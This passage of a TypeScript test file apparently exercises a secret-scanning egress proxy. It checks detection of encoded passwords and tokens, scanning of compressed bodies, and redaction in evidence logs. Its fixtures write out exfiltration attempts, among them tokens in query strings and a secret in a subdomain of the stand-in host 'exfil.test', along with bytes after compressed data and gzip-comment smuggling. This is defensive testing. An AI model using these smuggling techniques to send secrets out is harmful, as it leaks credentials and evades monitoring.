    assert.equal(find(textViews(body, 'body'))?.detector, 'github-token', shape);
  assert.equal(
    find(headerViews(['X-Context', JSON.stringify({ note: `x\n${token}` })]))?.where,
    'header X-Context',
  );
  // Code has `=` before hex digits and line breaks, and `&&`: none of it is a finding.
  assert.equal(find(textViews('a=deadbeef;\nb = c &&\n  d; // &amp;\n', 'body')), undefined);
});

test('a bound secret is found in the spellings other tools give it: Python and git percent-encoding, Go JSON, CSV, XML and HTML', () => {
  const value = 'Tr0ub4dor&3<x>"q"!';
  const scanner = createSecretScanner([], [{ env: 'DB_PASSWORD', value, allow: [] }]);
  const host = targetOf('https://x.test/');
  const b64 = (text: string) => Buffer.from(text).toString('base64');
  const python = [...Buffer.from(value)]
    .map((byte) =>
      /[A-Za-z0-9._~-]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase()}`,
    )
    .join('');
  const goJson = 'Tr0ub4dor\\u00263\\u003cx\\u003e\\"q\\"!';
  const bodies = {
    'git credentials': `https://bot:${python}@git.example\n`,
    'git credentials in base64': b64(`https://bot:${python}@git.example\n`),
    'Go JSON in base64': b64(`{"password":"${goJson}"}`),
    'CSV field': `user,"${value.replaceAll('"', '""')}"\n`,
    'XML text': `<password>${value.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;').replaceAll('"', '&quot;')}</password>`,
    'HTML numeric references': value.replace('&', '&#38;').replace('<', '&#x3C;'),
  };
  for (const [shape, body] of Object.entries(bodies))
    assert.equal(
      scanner.scanContent(textViews(body, 'body'), host, false)?.detector,
      'secret:DB_PASSWORD',
      shape,
    );
});

test('a compressed body is scanned as sent too: bytes after its compressed data are refused, a gzip comment is scanned', () => {
  const token = SAMPLES['github-token'] ?? '';
  const clean = Buffer.from('{"note":"nothing to see"}');
  // Decoders stop at the end of the compressed data; the origin gets every byte.
  for (const [coding, encoded] of [
    ['deflate', deflateSync(clean)],
    ['deflate', deflateRawSync(clean)],
    ['br', brotliCompressSync(clean)],
    ['gzip', gzipSync(clean)],
  ] as const) {
    const views = bodyViews(Buffer.concat([encoded, Buffer.from(token)]), coding, 1024 * 1024);
    assert.ok(!views.ok, coding);
    assert.match(
      views.reason,
      new RegExp(
        `the ${coding}-encoded body (has ${token.length} bytes after the end of its compressed data|cannot be decoded)`,
      ),
    );
  }
  // A gzip header's comment (FLG.FCOMMENT) is not part of the decoded data.
  const plain = gzipSync(clean);
  const FCOMMENT = 0x10;
  const header = Buffer.from(plain.subarray(0, 10));
  header.writeUInt8(header.readUInt8(3) | FCOMMENT, 3);
  const commented = Buffer.concat([
    header,
    Buffer.from(`${token}\0`, 'latin1'),
    plain.subarray(10),
  ]);
  const views = bodyViews(commented, 'gzip', 1024 * 1024);
  assert.ok(views.ok);
  assert.equal(
    createSecretScanner(BUILTIN_DETECTORS, []).scanContent(
      views.views,
      targetOf('https://x.test/'),
      true,
    )?.detector,
    'github-token',
  );
});

test('requests refused before admission keep their secrets out of the evidence too', async () => {
  const github = SAMPLES['github-token'] ?? '';
  const proxy = await startEngine({
    limits: { maxActiveTunnels: 0 },
    secretValues: { AGENT_TOKEN: TOKEN },
    policy: EXFIL_POLICY,
  });
  try {
    const noUpgrade = await rawExchange(
      proxy.port,
      `GET ws://a.exfil.test/?t=${github} HTTP/1.1\r\nHost: a.exfil.test\r\n\r\n`,
    );
    assert.match(noUpgrade.text, /^HTTP\/1\.1 400 /);
    const noHost = await rawExchange(
      proxy.port,
      `GET http://a.exfil.test/?t=${github} HTTP/1.1\r\n\r\n`,
    );
    assert.match(noHost.text, /^HTTP\/1\.1 400 /);
    const overLimit = await rawExchange(
      proxy.port,
      `CONNECT agent-secret.5f2b9c1e7a.exfil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n`,
    );
    assert.match(overLimit.text, /^HTTP\/1\.1 503 /);
    await proxy.stop();
    const evidence = evidenceText(proxy);
    assert.equal(decisions(readEvidenceDir(proxy.dir).receipts).length, 3);
    assert.ok(!evidence.includes(github.slice(4)), 'the GitHub token leaked');
    assert.ok(!evidence.includes('5f2b9c1e7a'), 'the bound secret leaked');
    assert.match(evidence, /\[REDACTED:github-token\]/);
  } finally {
    await proxy.stop();
    cleanup(join(proxy.dir, '..'));
  }
});
